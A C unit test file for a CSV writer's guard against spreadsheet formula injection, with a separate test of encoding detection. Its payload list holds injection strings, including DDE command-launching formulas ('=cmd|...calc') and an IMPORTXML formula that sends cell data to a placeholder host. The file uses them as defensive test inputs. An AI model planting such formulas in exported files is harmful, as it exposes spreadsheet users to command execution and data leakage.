/* test-csv.c: what is written as CSV is no formula and is read as the same; and
 * of which encoding a file is.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "import-fixture.h"

#include "fettle-csv-encoding.h"
#include "fettle-csv-reader.h"
#include "fettle-csv-writer.h"
#include "test-seed.h"

#include <string.h>

/* --- formulas ------------------------------------------------------------------------ */

/* Each of these some spreadsheet takes for a formula, or may. */
static const char *const payloads[] = {
  "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "|calc", "%x", "=", "+", "-", "@", "|", "%",
  "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\thello", "\rhello", "\nhello", "\n", "\t",
  " =1+1", "  =1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003+1", "\u2028=1", "\x0b=1", "\x0c=1", " \t=1", " \n=1",
  "\"=1+1", "\"=1+1\"", "\"\"=1", "'=1+1", "''=1", "' =1", "\" =1", "'\"=1", "\"'@x", "＂=1", "＇=1",
  "\ufeff=1+1", "\ufeff\"=1", "\ufeff =1", "\ufeff\ufeff@x", "\u200b=1", "\u200e-1", "\u202e=1", "\x01=1", "\x7f=1",
  "＝1+1", "＋1", "－1", "＠SUM(1)", "｜calc", "％x", " ＝1", "'＝1", "\ufeff＝1",
  "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
  "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "+cmd|'/C calc'!A0\n", "=1,2", "=1;2", "-12", "-", "--", "=\"\"\"",
};

static const char *const harmless[] = {
  "", "a", "a=1", "VPN down", "'", "''", "'tis", "\"quoted\"", " a", "a ", "a\tb", "1+1", "日本語", "\u00a0a",
  "\ufeffa", "x\r\ny", "x\ny", "a,b", "a;b", "a\t", "0", "3 − 2",
  "a;;;b", "a\t\t\tb", "a|||b",
};

static const char *read_back[8];
static guint n_read_back;

static gboolean
take_record (const FettleCsvRecord *record,
             gpointer               user_data,
             GError               **error)
{
  g_assert_cmpuint (record->flaws, ==, FETTLE_CSV_SOUND);
  n_read_back = record->n_fields;
  for (guint i = 0; i < MIN (record->n_fields, G_N_ELEMENTS (read_back)); i++)
    read_back[i] = g_intern_string (record->fields[i]);
  return TRUE;
}

static char *
write_cell (const char *text)
{
  g_autoptr (GString) out = g_string_new (NULL);

  fettle_csv_write_field (out, "first", TRUE);
  fettle_csv_write_field (out, text, TRUE);
  fettle_csv_write_field (out, "last", TRUE);
  fettle_csv_end_record (out);
  return g_string_free (g_steal_pointer (&out), FALSE);
}

static void
assert_comes_back (Fixture    *fixture,
                   const char *text)
{
  g_autofree char *cell = write_cell (text);
  g_autofree char *path = import_write (fixture, "cell.csv", cell, -1);
  g_autoptr (GError) error = NULL;
  FettleCsvForm form;

  g_assert_true (fettle_csv_read (path, &form, take_record, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_read_back, ==, 3);
  g_assert_cmpstr (read_back[1], ==, text);
}

static void
test_guarded (void)
{
  g_autoptr (Fixture) fixture = fixture_new ();

  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      g_autofree char *cell = write_cell (payloads[i]);

      g_test_message ("%s", cell);
      g_assert_true (g_str_has_prefix (cell, "first,\"'"));
      assert_comes_back (fixture, payloads[i]);
    }
}

static void
test_harmless (void)
{
  g_autoptr (Fixture) fixture = fixture_new ();

  for (guint i = 0; i < G_N_ELEMENTS (harmless); i++)
    {
      g_autofree char *cell = write_cell (harmless[i]);

      g_test_message ("%s", cell);
      g_assert_true (harmless[i][0] == '\'' || !g_str_has_prefix (cell, "first,\"'"));
      assert_comes_back (fixture, harmless[i]);
    }
}

/* Whatever is written is read as the same. */
static void
test_any_text (void)
{
  static const char *const pieces[] = {
    "=", "+", "-", "@", "'", "\"", " ", "\t", "\r", "\n", "|", "%", ",", ";", "a", "ö", "＝", "\ufeff", "\u200b", "\u2028",
  };
  g_autoptr (Fixture) fixture = fixture_new ();
  g_autoptr (FettleRandom) random = test_seed_random ();

  for (guint round = 0; round < 500; round++)
    {
      g_autoptr (GString) text = g_string_new (NULL);

      for (guint n = fettle_random_below (random, 6); n > 0; n--)
        g_string_append (text, pieces[fettle_random_below (random, G_N_ELEMENTS (pieces))]);
      assert_comes_back (fixture, text->str);
    }
}

/* --- encodings ------------------------------------------------------------------------- */

static const struct
{
  const char    *text;
  FettleEncoding encoding;
} texts[] = {
  { "", FETTLE_ENCODING_UTF8 },
  { "plain", FETTLE_ENCODING_UTF8 },
  { "Jörg Müller", FETTLE_ENCODING_UTF8 },
  { "J\xf6rg M\xfcller", FETTLE_ENCODING_CP1252 },
  { "caf\xe9", FETTLE_ENCODING_CP1252 },
  { "Jörg caf\xe9", FETTLE_ENCODING_UTF8 },
  { "Jörg \xc3", FETTLE_ENCODING_UTF8 },
  { "Jörg 日\xe6\x97", FETTLE_ENCODING_UTF8 },
  { "CAF\xc9\x94 caf\xe9 \xfc\xf6 \xe4", FETTLE_ENCODING_CP1252 },  /* one pair looks like UTF-8 */
};

/* It does not matter where the pieces end. */
static void
test_encoding (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    for (gsize step = 1; step <= strlen (texts[i].text) + 1; step++)
      {
        FettleUtf8Check check;
        gsize n = strlen (texts[i].text);

        fettle_utf8_check_init (&check);
        for (gsize at = 0; at < n; at += step)
          fettle_utf8_check_feed (&check, (const guint8 *) texts[i].text + at, MIN (step, n - at));
        g_test_message ("row %u by %" G_GSIZE_FORMAT, i, step);
        g_assert_cmpint (fettle_utf8_check_finish (&check), ==, texts[i].encoding);
      }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv/guarded", test_guarded);
  g_test_add_func ("/csv/harmless", test_harmless);
  g_test_add_func ("/csv/any-text", test_any_text);
  g_test_add_func ("/csv/encoding", test_encoding);
  return g_test_run ();
}
